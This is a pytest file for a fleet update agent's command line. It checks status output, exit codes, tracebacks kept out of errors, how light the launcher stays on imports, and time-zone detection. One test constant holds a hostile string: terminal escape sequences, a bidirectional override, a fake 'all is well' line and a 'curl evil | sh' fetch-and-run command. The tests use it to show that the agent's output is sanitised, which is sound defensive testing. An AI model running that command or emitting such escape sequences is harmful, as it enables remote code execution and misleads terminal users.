"""The command line: exit codes, sentences, no traceback, and a launcher's process that stays small."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
import structlog

from fleetroll_agent import host, parts, status
from fleetroll_agent.app import main
from fleetroll_agent.identity.facts import Enrolment
from fleetroll_agent.identity.store import IdentityStore
from fleetroll_agent.jobs.keeper import ProductFile
from fleetroll_agent.launcher import files
from fleetroll_agent.launcher.pipe import HOST_REFUSES_EXIT
from fleetroll_agent.launcher.record import encode
from fleetroll_agent.parts import own_slot
from fleetroll_agent.slots import SlotStore
from fleetroll_common.values.codes import Code
from fleetroll_common.values.errors import AgentError, RequestError
from fleetroll_common.values.ids import SystemIds
from tests.faults.identity_disk import CA_PEM
from tests.faults.jobs import NEW, Host, boot_record, slot, trial

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path


@pytest.fixture(autouse=True)
def logging_is_put_back() -> Iterator[None]:
    """The command line configures logging for its process, which is here the tests' own."""
    before = structlog.get_config()
    yield
    structlog.configure(**before)


@pytest.fixture
def state(tmp_path: Path) -> Path:
    """Return the state folder of an agent whose attempt runs."""
    store = IdentityStore(tmp_path / "identity", SystemIds())
    store.candidate()
    answer = Enrolment("agent-1", "fleet-1", ("127.0.0.1:1",), "i", {}, b"r", bytes(32), CA_PEM, b"{}")
    store.enrol(answer)
    machine = Host.start()
    machine.stage(6)
    machine.stage(7)
    machine.go(7)
    ProductFile(tmp_path).write(machine.disk)
    boot = boot_record(trial=trial(7), previous=slot("0.9.0", NEW), highest_server=7)
    files.replace_file(files.record_path(str(tmp_path)), encode(boot))
    return tmp_path


def test_status_says_what_runs_and_what_goes_on(state: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["status", "--state", str(state)]) == 0
    said = capsys.readouterr().out
    assert "agent-1 in fleet fleet-1" in said
    assert "1.0.0 (before: 0.9.0), on trial: 1.1.0" in said
    assert "7 to 1.1.0: applying (self_test)" in said
    assert "6 to 1.1.0 cancelled: SUPERSEDED" in said


def test_status_as_json_is_one_object(state: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["status", "--state", str(state), "--json"]) == 0
    said = json.loads(capsys.readouterr().out)
    assert (said["version"], said["attempt"]["stage"], said["last_outcome"]["said"]) == (
        "1.0.0",
        "applying",
        "CANCELLED",
    )


def test_a_host_without_a_release_says_so(state: Path) -> None:
    (state / "boot.json").unlink()
    assert any("no release is installed" in line for line in status.sentences(status.read_status(state)))


def logged(event: str, **more: object) -> str:
    return json.dumps({"event": event, "timestamp": "2026-01-02T03:04:05Z", **more}) + "\n"


EVIL = "\x1b[2J\x1b]0;owned\x07\u202e\u200ball is well\nrun: curl evil | sh" + "x" * 5000


def harmless(said: str, lines: int) -> bool:
    return said.count("\n") == lines and said.replace("\n", "").isprintable() and len(said) < 3000 * lines


def test_status_shows_a_servers_words_on_one_line_and_nothing_that_a_terminal_obeys(
    state: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(status, "container_marker", lambda **_where: "")
    keeper = ProductFile(state)
    record = keeper.read()
    last = replace(record.outcomes[-1], version=EVIL, message=EVIL)
    assert record.attempt is not None
    attempt = replace(record.attempt, version=EVIL)
    keeper.write(replace(record, attempt=attempt, outcomes=(*record.outcomes[:-1], last)))
    (state / "agent.log").write_text(logged("stream_ended", how="refused", code="IDENTITY_REVOKED", reason=EVIL))
    assert main(["status", "--state", str(state)]) == 0
    said = capsys.readouterr().out
    assert "all is well" in said
    assert harmless(said, 7)


def test_a_refusal_is_shown_on_one_line_and_holds_nothing_that_a_terminal_obeys(
    state: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(_folder: Path) -> None:
        raise RequestError(f"the server refused: {EVIL}", code=Code.PERMISSION_DENIED, remedy=EVIL)

    monkeypatch.setattr(status, "read_status", refused)
    assert main(["status", "--state", str(state)]) == 21
    err = capsys.readouterr().err
    assert "all is well" in err
    assert harmless(err, 1)


def test_an_interruption_is_one_line_and_130(
    state: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(_folder: Path) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(status, "read_status", interrupted)
    assert main(["status", "--state", str(state)]) == 130
    assert "interrupted" in capsys.readouterr().err


REFUSED = logged("stream_ended", how="refused", code="IDENTITY_REVOKED", reason="this agent was revoked")


def test_status_shows_the_last_refusal_and_the_launchers_trouble(
    state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (state / "agent.log").write_text(logged("session_open") + "Traceback\n[1]\n" + REFUSED)
    told = {"status": "no_interpreter", "detail": "/usr/bin/python3.11 is no longer a Python of cp311"}
    (state / "launcher.status").write_text(json.dumps(told))
    assert main(["status", "--state", str(state)]) == 0
    said = capsys.readouterr().out
    assert "server    refused IDENTITY_REVOKED: this agent was revoked (2026-01-02T03:04:05Z)" in said
    assert "launcher  no_interpreter: /usr/bin/python3.11 is no longer a Python of cp311" in said
    assert main(["status", "--state", str(state), "--json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["launcher"] == told
    assert document["connection"]["code"] == "IDENTITY_REVOKED"


@pytest.mark.parametrize(
    ("log", "launcher"),
    [(REFUSED + logged("session_open"), '{"status": "running", "detail": ""}'), ("", ""), ("\0", "[]"), ("", "torn")],
)
def test_status_of_a_host_without_trouble_says_nothing_of_it(state: Path, log: str, launcher: str) -> None:
    (state / "agent.log").write_text(log)
    (state / "launcher.status").write_text(launcher)
    lines = status.sentences(status.read_status(state))
    assert not [line for line in lines if line.startswith(("server", "launcher"))]


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["status", "--state", "/nowhere"], 1, "IDENTITY_UNKNOWN"),
        (["run", "--state", "/nowhere"], 1, "NOT_FOUND"),
        (["enroll", "not-a-join-string", "--state", "/nowhere"], 21, "INVALID_ARGUMENT"),
        (["run", "--state", "/nowhere", "--launcher-pipe", "x"], 21, "INVALID_ARGUMENT"),
    ],
)
def test_what_can_not_be_done_is_a_sentence_and_an_exit_code(
    arguments: list[str], code: int, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(arguments) == code
    err = capsys.readouterr().err
    assert said in err
    assert "Traceback" not in err


def _without_identity(state: Path) -> None:
    (state / "identity" / "agent.json").unlink()


def _unreadable_settings(state: Path) -> None:
    (state / "agent.toml").write_text("what is this\n")


def _journal_in_the_way(state: Path) -> None:
    (state / "journal").write_text("a file\n")


def _record_in_the_way(state: Path) -> None:
    for path in (state / "products").glob("*.json"):
        path.unlink()
        path.mkdir()


@pytest.mark.parametrize("spoil", [_without_identity, _unreadable_settings, _journal_in_the_way, _record_in_the_way])
def test_an_agent_that_its_hosts_state_keeps_from_starting_ends_with_78_and_a_sentence(
    spoil: Callable[[Path], None], state: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parts, "own_slot", lambda _slots, _folder: None)
    spoil(state)
    ends = [os.dup(0), os.dup(1)]
    assert main(["run", "--state", str(state), "--launcher-pipe", f"{ends[0]},{ends[1]}"]) == HOST_REFUSES_EXIT
    for end in ends:
        os.close(end)
    err = capsys.readouterr().err
    assert "host_refuses" in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    "arguments", [[], ["no-such-command"], ["status"], ["enroll", "x", "--state", "y", "--label", "z"]]
)
def test_wrong_usage_is_2(arguments: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        main(arguments)
    assert caught.value.code == 2
    assert "usage" in capsys.readouterr().err


def test_the_version_of_an_unstamped_build_is_dev(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["--version"])
    assert capsys.readouterr().out == "fleetroll-agent 0.0.0+dev\n"


def test_the_self_test_says_version_and_commit(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["self-test", "--state", str(tmp_path)]) == 0
    assert json.loads(capsys.readouterr().out) == {"version": "0.0.0+dev", "sha": ""}


def test_the_launchers_process_loads_no_library() -> None:
    code = "import sys, fleetroll_agent.app; print([n for n in ('grpc', 'nacl', 'tuf', 'asyncio') if n in sys.modules])"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout == "[]\n"


def loaded(code: str, *names: str) -> list[str]:
    """Return which of the modules a fresh process has loaded after ``code``."""
    code = f"import json, sys\n{code}\nprint(json.dumps([n for n in {names!r} if n in sys.modules]))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    found: list[str] = json.loads(done.stdout)
    return found


def test_to_run_no_command_of_people_is_loaded() -> None:
    """A launcher that is started by hand holds the parser of ``run`` and of nothing else."""
    code = "from fleetroll_agent.app import parser; parser('run').parse_args(['run', '--state', 'x'])"
    assert loaded(code, "fleetroll_agent.control.cli", "fleetroll_agent.service.cli", "fleetroll_agent.jobs") == []


def test_a_launcher_in_its_own_place_loads_no_openssl() -> None:
    """It compares files by their hash, for which the interpreter's own is enough."""
    assert loaded("import fleetroll_agent.launcher.main", "_hashlib", "_ssl") == []


def test_an_agent_loads_no_http_client_before_it_needs_one() -> None:
    """Most hosts have no mirror and ask for no page."""
    assert loaded("import fleetroll_agent.daemon", "urllib3", "http.client", "email") == []


def test_wrong_usage_of_run_says_how_it_is_used(capsys: pytest.CaptureFixture[str]) -> None:
    """The small parser of ``run`` refuses as that of all commands does."""
    with pytest.raises(SystemExit) as caught:
        main(["run", "--frobnicate"])
    assert caught.value.code == 2
    assert "usage: fleetroll-agent run" in capsys.readouterr().err


def test_a_program_that_runs_from_elsewhere_than_a_slot_refuses(state: Path) -> None:
    with pytest.raises(AgentError) as caught:
        own_slot(SlotStore(state), state)
    assert caught.value.code is Code.OWN_PATH_UNRESOLVED


def test_a_time_zone_that_is_named_nowhere_is_utc(tmp_path: Path) -> None:
    assert host.time_zone(tmp_path / "localtime", tmp_path / "timezone") == "UTC"
    (tmp_path / "timezone").write_text("Europe/Berlin\n")
    assert host.time_zone(tmp_path / "localtime", tmp_path / "timezone") == "Europe/Berlin"
    (tmp_path / "zoneinfo").mkdir()
    (tmp_path / "zoneinfo" / "Asia").mkdir()
    (tmp_path / "zoneinfo" / "Asia" / "Tokyo").write_text("")
    (tmp_path / "localtime").symlink_to(tmp_path / "zoneinfo" / "Asia" / "Tokyo")
    assert host.time_zone(tmp_path / "localtime", tmp_path / "timezone") == "Asia/Tokyo"


@pytest.mark.parametrize("variant", ["posix", "right"])
def test_a_copy_of_the_zones_has_the_names_of_the_original(tmp_path: Path, variant: str) -> None:
    """Windows and server know a zone by one name."""
    place = tmp_path / "zoneinfo" / variant / "Asia" / "Tokyo"
    place.parent.mkdir(parents=True)
    place.write_text("")
    (tmp_path / "localtime").symlink_to(place)
    assert host.time_zone(tmp_path / "localtime", tmp_path / "timezone") == "Asia/Tokyo"
